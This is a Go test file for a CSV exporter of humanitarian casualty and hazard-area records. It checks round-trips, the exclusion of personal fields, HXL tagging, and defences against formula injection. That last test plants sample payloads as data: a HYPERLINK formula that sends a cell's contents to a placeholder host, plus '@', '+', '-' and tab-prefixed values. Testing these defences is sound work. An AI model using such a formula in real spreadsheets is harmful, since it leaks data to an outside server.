package reports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/ccmcollect/ccmcollect/forms"
	"github.com/ccmcollect/ccmcollect/reports"
)

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("reading the export back: %v", err)
	}
	return rows
}

func TestWriteCSVRoundTrip(t *testing.T) {
	src := demoSource(t, 3, 1200)
	reg := forms.Builtin()
	for _, formID := range forms.BuiltinIDs {
		for _, personal := range []bool{false, true} {
			name := formID
			if personal {
				name += "/personal"
			}
			t.Run(name, func(t *testing.T) {
				f, _ := reg.Latest(formID)
				var buf bytes.Buffer
				n, err := reports.WriteCSV(context.Background(), &buf, src, reg, formID, reports.CSVOptions{IncludePersonal: personal})
				if err != nil {
					t.Fatal(err)
				}
				recs := src.byForm[formID]
				rows := readCSV(t, buf.Bytes())
				if n != len(recs) || len(rows) != len(recs)+1 {
					t.Fatalf("wrote %d records, %d rows; want %d", n, len(rows)-1, len(recs))
				}
				head := rows[0]
				if !slices.Equal(head[:3], []string{"record_id", "rev", "saved_at"}) {
					t.Fatalf("header starts %v", head[:3])
				}
				for _, s := range f.SensitiveFields() {
					if slices.Contains(head, s) != personal {
						t.Errorf("column %s present = %v, want %v", s, !personal, personal)
					}
				}
				for i, rev := range recs {
					row := rows[i+1]
					if row[0] != rev.RecordID || row[1] != rev.Rev {
						t.Fatalf("row %d is %s %s, want %s %s", i, row[0], row[1], rev.RecordID, rev.Rev)
					}
					cells := map[string]string{}
					for j, c := range head[3:] {
						// A guarded text cell reads back without its "'",
						// as a spreadsheet shows it.
						v := row[3+j]
						if len(v) > 1 && v[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(v[1])) {
							v = v[1:]
						}
						cells[c] = v
					}
					back, err := f.Unflatten(cells)
					if err != nil {
						t.Fatalf("row %d: %v", i, err)
					}
					want := f.Strip(rev.Data)
					if !personal {
						for _, s := range f.SensitiveFields() {
							delete(want, s)
						}
					}
					if !reflect.DeepEqual(back, want) {
						t.Fatalf("row %d does not round-trip:\n got %v\nwant %v", i, back, want)
					}
				}
				if formID == "casualty" && !personal {
					for _, v := range personalValues(t, src) {
						if strings.Contains(buf.String(), v) {
							t.Fatal("export holds a personal value")
						}
					}
				}
			})
		}
	}
}

func TestWriteCSVHXL(t *testing.T) {
	src := demoSource(t, 3, 300)
	var buf bytes.Buffer
	if _, err := reports.WriteCSV(context.Background(), &buf, src, forms.Builtin(), "hazard_area", reports.CSVOptions{HXL: true}); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	head, tags := rows[0], rows[1]
	tag := func(col string) string { return tags[slices.Index(head, col)] }
	for col, want := range map[string]string{
		"record_id":                 "#meta+id",
		"adm1":                      "#adm1+name",
		"beneficiaries_female_0-17": "#beneficiary+f+children",
		"beneficiaries_male_18-59":  "#beneficiary+m+adults",
		"beneficiaries_unknown_60+": "#beneficiary+elderly",
		"location_lat":              "#geo+lat",
	} {
		if got := tag(col); got != want {
			t.Errorf("HXL of %s = %q, want %q", col, got, want)
		}
	}
	if len(rows) != len(src.byForm["hazard_area"])+2 {
		t.Errorf("%d rows, want header, tags and %d records", len(rows), len(src.byForm["hazard_area"]))
	}
}

func TestWriteCSVUnknownForm(t *testing.T) {
	var buf bytes.Buffer
	_, err := reports.WriteCSV(context.Background(), &buf, &memSource{}, forms.Builtin(), "nope", reports.CSVOptions{})
	if !errors.Is(err, forms.ErrUnknownForm) || buf.Len() != 0 {
		t.Fatalf("got %v and %d bytes, want ErrUnknownForm and nothing written", err, buf.Len())
	}
}

// TestWriteCSVFormulaInjection: text cells that a spreadsheet would run as a
// formula get a leading "'"; numbers, negative coordinates included, do not.
func TestWriteCSVFormulaInjection(t *testing.T) {
	src := &memSource{}
	hyperlink := `=HYPERLINK("http://x/?"&W2,"x")`
	src.add(t, "casualty", map[string]any{
		"incident_date": "2024-05-01", "adm1": "+Attapeu", "adm2": "@SUM(1,2)", "village": hyperlink,
		"location": map[string]any{"lat": -14.5, "lon": -106.25, "accuracy_m": 5.0},
		"outcome":  "injured", "sex": "female", "age": 9.0, "cm_context": "remnant",
		"consent": "yes", "name": "-2+3", "contact": "\tcmd",
	})
	var buf bytes.Buffer
	if _, err := reports.WriteCSV(context.Background(), &buf, src, forms.Builtin(), "casualty", reports.CSVOptions{IncludePersonal: true}); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if len(rows) != 2 {
		t.Fatalf("%d rows, want 2", len(rows))
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for col, want := range map[string]string{
		"village": "'" + hyperlink, "adm1": "'+Attapeu", "adm2": "'@SUM(1,2)", "name": "'-2+3", "contact": "'\tcmd",
		"location_lat": "-14.5", "location_lon": "-106.25", "age": "9", "age_group": "child", "incident_date": "2024-05-01",
	} {
		if got[col] != want {
			t.Errorf("%s = %q, want %q", col, got[col], want)
		}
	}
}
